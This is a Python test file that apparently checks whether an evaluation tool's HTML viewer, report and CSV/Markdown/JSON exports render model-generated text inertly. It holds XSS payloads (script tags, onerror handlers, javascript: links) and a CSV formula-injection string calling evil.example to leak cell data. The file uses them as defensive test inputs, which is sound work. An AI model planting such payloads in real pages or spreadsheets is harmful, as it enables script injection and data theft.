"""Model text is hostile input. Answers carrying markup, `javascript:` links, Markdown pipes, CSV
formula prefixes, NUL, U+FFFD / lone surrogates (a byte-level model's invalid UTF-8) and 100 kB
strings render inert and intact in the society viewer and the report (in headless Chromium: no
script runs, no element is injected, the text is shown verbatim) and round-trip through every file
format (JSONL, CSV, Markdown, JSON).

Representation decided here (module docstrings of compare and viewer): invalid bytes are U+FFFD
(what the tokenizer's decode produces); a lone surrogate, which no UTF-8 file can hold, is written as
U+FFFD in HTML, Markdown and CSV and kept exactly in JSON (ASCII escapes). CSV neutralises formula
prefixes reversibly (one leading apostrophe); Markdown backslash-escapes. The static report shows C0
control characters as Unicode Control Pictures (an HTML parser would drop them); the viewer keeps them
in the DOM text.
"""

import csv
import io
import json
import re

import pytest

from sandbox_jax.data import jsonl
from sandbox_jax.data.records import read_transcripts
from sandbox_jax.evaluation.compare import (compare, csv_text, markdown_cell, read_markdown_table, table_csv,
                                            table_markdown)
from sandbox_jax.evaluation.report_html import valid_unicode, visible
from sandbox_jax.evaluation.viewer import write_viewer
from tests.test_society_metrics import make_row
from tests.test_viewer import _open, browser  # noqa: F401  (the headless Chromium fixture)

INVALID_UTF8 = b"ok \xff\xfe\xc3 then \xe2\x82".decode("utf-8", errors="replace")  # what decode() gives
HOSTILE = {
    "script": "<script>window.__pwned = 1</script>",
    "close_script": '</script><img src=x onerror="window.__pwned = 2"><script>window.__pwned = 3</script>',
    "javascript_link": '<a href="javascript:window.__pwned = 4">click</a> [md](javascript:window.__pwned=5)',
    "markdown_pipes": "| a | b |\n|---|---|\n| \\| | *em* _u_ `code` ~~s~~ <br> &amp;",
    "csv_formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "csv_other_prefixes": "+1+1\n-2\t@SUM(A1)\r\n'quoted",
    "nul": "before\x00after\x00",
    "invalid_utf8": INVALID_UTF8,
    "lone_surrogates": "high \ud800 low \udcff end",
    "json_breakers": "\u2028\u2029 <!-- <![CDATA[ ]]> --> \" \\ / \x1b[31mred",
    "big": ("<b>" + "x" * 1000 + "</b>\n") * 100,  # ~100 kB
}
assert len(HOSTILE["big"]) >= 100_000
WRAPPER = "<img src=x onerror='window.__pwned = 6'>"  # no '/': wrapper names sit between '/' in metric keys


def _expected(text: str) -> str:
  return valid_unicode(text)


def _transcript() -> list[dict]:
  """One hostile string per agent of a 4x4 grid (question, draft, feedback, revision and memory)."""
  rows = []
  for a in range(16):
    name, text = list(HOSTILE.items())[a % len(HOSTILE)]
    row = make_row(0, 0, a, 3.0, 4.0, [5.0, 2.0], world="half_half")
    row.update(question=f"{name}: {text}", draft_answer=text, revised_answer=text[::-1],
               feedback=[text, name], memory_used={"question": name, "answer": text, "round": 0})
    rows.append(row)
  return rows


def test_transcript_jsonl_round_trip(tmp_path):
  """The runner's round files (json.dumps, ASCII escapes) read back exactly, lone surrogates too."""
  rows = _transcript()
  path = tmp_path / "transcript.jsonl"
  path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
  back = read_transcripts(path)
  for row, parsed in zip(rows, back):
    assert (parsed.question, parsed.draft_answer, parsed.revised_answer, list(parsed.feedback)) == (
        row["question"], row["draft_answer"], row["revised_answer"], row["feedback"])
    assert parsed.memory_used.answer == row["memory_used"]["answer"]


def test_write_jsonl_round_trip(tmp_path):
  """The data package's JSONL writer (UTF-8, not ASCII-escaped) keeps valid Unicode exactly."""
  objects = [{"text": _expected(text)} for text in HOSTILE.values()]
  jsonl.write_jsonl(tmp_path / "x.jsonl", objects)
  assert list(jsonl.iter_jsonl(tmp_path / "x.jsonl", lambda obj, where: obj)) == objects


def test_markdown_and_csv_round_trip():
  columns = ["checkpoint", "answer", "score"]
  rows = [{"checkpoint": name, "answer": text, "score": -1.5} for name, text in HOSTILE.items()]
  rows.append({"checkpoint": "'=already quoted", "answer": "-0.25", "score": None})

  md = table_markdown(columns, rows)
  header, cells = read_markdown_table(md)
  assert header == columns
  assert [c[:2] for c in cells] == [[_expected(r["checkpoint"]), _expected(r["answer"])] for r in rows]
  assert "\r" not in md and "\u2028" not in md
  for line in md.split("\n")[2:-1]:  # every row is one line with exactly the table's cell boundaries
    assert line.count("|") - line.count("\\|") == len(columns) + 1
  bare = re.sub(r"\\.", "", md, flags=re.S)  # what a renderer reads as syntax: no escaped pairs
  assert re.sub(r"<br>", "", bare).count("<") == 0 and "](" not in bare and "\x00" not in md
  assert re.sub(r"&#\d+;", "", bare).count("&") == 0

  text = table_csv(columns, rows)
  parsed = list(csv.reader(io.StringIO(text, newline="")))
  assert parsed[0] == columns
  assert [[csv_text(c) for c in p[:2]] for p in parsed[1:]] == [
      [_expected(r["checkpoint"]), _expected(r["answer"])] for r in rows]
  assert all(p[2] in ("-1.5", "") for p in parsed[1:])  # numbers are never prefixed
  for p in parsed[1:]:  # no cell a spreadsheet would evaluate
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in p[:2])
  assert parsed[5][1].startswith("'=HYPERLINK(")


def test_markdown_cell_keeps_intraword_underscores_readable():
  assert markdown_cell("truthfulqa_mc2/mc2") == "truthfulqa_mc2/mc2"
  assert markdown_cell("_x_ a|b") == "\\_x\\_ a\\|b"


def _hostile_results():
  """Checkpoints named by hostile strings, one with a society whose world names are hostile."""
  names = ["start", *[f"{k} {v}" for k, v in HOSTILE.items() if k != "big"], HOSTILE["big"]]
  society_rows = [make_row(0, r, a, 3.0, 4.0, [5.0, 2.0], world=HOSTILE["close_script"]) for r in range(2)
                  for a in range(4)]
  from sandbox_jax.evaluation.society_metrics import society_metrics
  society = society_metrics(society_rows)
  results = [{"name": n, "metrics": {"gen/alignment": 4.0 + i / 10, f"adv/{WRAPPER}/alignment_drop": 0.5}}
             for i, n in enumerate(names)]
  results[1]["society"] = society
  return results


def test_report_files_round_trip(tmp_path):
  results = _hostile_results()
  paths = compare(results, tmp_path)
  table = json.loads(paths["json"].read_text())
  assert [r["checkpoint"] for r in table["rows"]] == [r["name"] for r in results]  # exact, surrogates too
  _, md_rows = read_markdown_table(paths["markdown"].read_text(encoding="utf-8"))
  assert [r[0] for r in md_rows] == [_expected(r["name"]) for r in results]
  with open(paths["csv"], newline="", encoding="utf-8") as f:
    parsed = list(csv.reader(f))
  assert [csv_text(p[0]) for p in parsed[1:]] == [_expected(r["name"]) for r in results]
  summary = paths["summary"]
  assert max(len(line) for line in summary.splitlines()) <= 100
  assert "\x00" not in summary and "\x1b" not in summary


def _no_injection(driver, tags):
  """No script ran and only the page's own elements exist."""
  assert driver.execute_script("return window.__pwned === undefined")
  counts = driver.execute_script(
      "return arguments[0].map(t => document.getElementsByTagName(t).length)", list(tags))
  return dict(zip(tags, counts))


def test_report_in_chromium_is_inert_and_verbatim(browser, tmp_path):  # noqa: F811
  results = _hostile_results()
  paths = compare(results, tmp_path, title=HOSTILE["close_script"])
  browser.set_window_size(1280, 900)
  browser.get(paths["html"].resolve().as_uri())
  counts = _no_injection(browser, ("script", "a", "img", "b", "iframe"))
  assert counts == {"script": 0, "a": 0, "img": len(paths["plots"]), "b": 0, "iframe": 0}
  assert browser.execute_script("return Array.from(document.images).every(i => i.naturalWidth > 0)")
  shown = browser.execute_script(
      "return Array.from(document.querySelectorAll('#headline-table tbody tr td:first-child'))"
      ".map(td => td.textContent)")
  assert shown == [visible(r["name"]) for r in results]
  assert browser.execute_script("return document.title") == visible(HOSTILE["close_script"])
  wrapper = browser.execute_script(
      "return document.querySelector('#adversarial-table tbody tr:nth-child(2) td').textContent")
  assert wrapper == WRAPPER
  width = browser.execute_script("return [document.scrollingElement.scrollWidth, window.innerWidth]")
  assert width[0] <= width[1], width  # a 100 kB name wraps, it does not widen the page
  assert [e for e in browser.get_log("browser") if e["level"] in ("SEVERE", "ERROR")] == []


def test_viewer_in_chromium_is_inert_and_verbatim(browser, tmp_path):  # noqa: F811
  from selenium.webdriver.common.by import By

  rows = _transcript()
  _open(browser, write_viewer(rows, tmp_path / "viewer.html", title=HOSTILE["script"]))
  text = lambda element_id: browser.execute_script(f"return document.getElementById('{element_id}').textContent")
  for a, row in enumerate(rows):
    browser.find_elements(By.CSS_SELECTOR, "#grid .cell")[a].click()
    assert text("question") == _expected(row["question"])
    assert text("draft") == _expected(row["draft_answer"])
    assert text("revised") == _expected(row["revised_answer"])
    reasons = browser.execute_script(
        "return Array.from(document.querySelectorAll('#peers tr')).slice(1).map(r => r.lastChild.textContent)")
    assert reasons == [_expected(f) for f in row["feedback"]]
    assert _expected(row["memory_used"]["answer"]) in browser.find_element(By.ID, "detail").get_attribute("textContent")
    counts = _no_injection(browser, ("script", "a", "img", "b", "iframe"))
    assert counts == {"script": 2, "a": 0, "img": 0, "b": 0, "iframe": 0}
  assert browser.execute_script("return document.title") == HOSTILE["script"]
  assert [e for e in browser.get_log("browser") if e["level"] in ("SEVERE", "ERROR")] == []
